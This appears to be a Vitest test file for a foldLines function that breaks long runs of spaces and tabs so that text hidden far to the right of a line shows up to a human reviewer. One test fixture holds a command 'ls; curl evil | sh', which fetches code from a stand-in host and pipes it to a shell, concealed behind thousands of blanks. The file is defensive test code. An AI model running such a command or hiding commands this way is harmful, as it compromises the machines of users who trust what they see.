import { describe, expect, it } from 'vitest';
import { FOLD, foldLines } from '../../../client/src/views/foldLines.ts';

describe('lines that a person decides by', () => {
  it.each([
    ['stay as they are', ['{', `${' '.repeat(128)}"a": "b c"`, '', '}']],
    ['stay as they are where a few blanks stand in them', ['a    b\tc']],
  ])('%s', (_what, lines) => expect(foldLines(lines)).toEqual(lines));

  it.each([
    ['blanks', ' '.repeat(3_000)],
    ['tabs', '\t'.repeat(50)],
  ])('show what stands far behind %s', (_what, run) => {
    const parts = [`"command": "ls${FOLD}`, run + FOLD, '; curl evil | sh"'];
    expect(foldLines([`"command": "ls${run}; curl evil | sh"`])).toEqual(parts);
  });

  it('show what stands far to the right from the beginning', () => {
    const run = ' '.repeat(500);
    expect(foldLines([`${run}hidden`])).toEqual([run + FOLD, 'hidden']);
    expect(foldLines([run])).toEqual([run]);
  });

  it('lose nothing, and cut no character in two', () => {
    const line = `${'👍'.repeat(5_000)}${' '.repeat(9_000)}x`;
    const folded = foldLines([line]);
    expect(folded.map((each) => each.replace(FOLD, '')).join('')).toBe(line);
    expect(Math.max(...folded.map(({ length }) => length))).toBeLessThanOrEqual(8_001);
  });
});
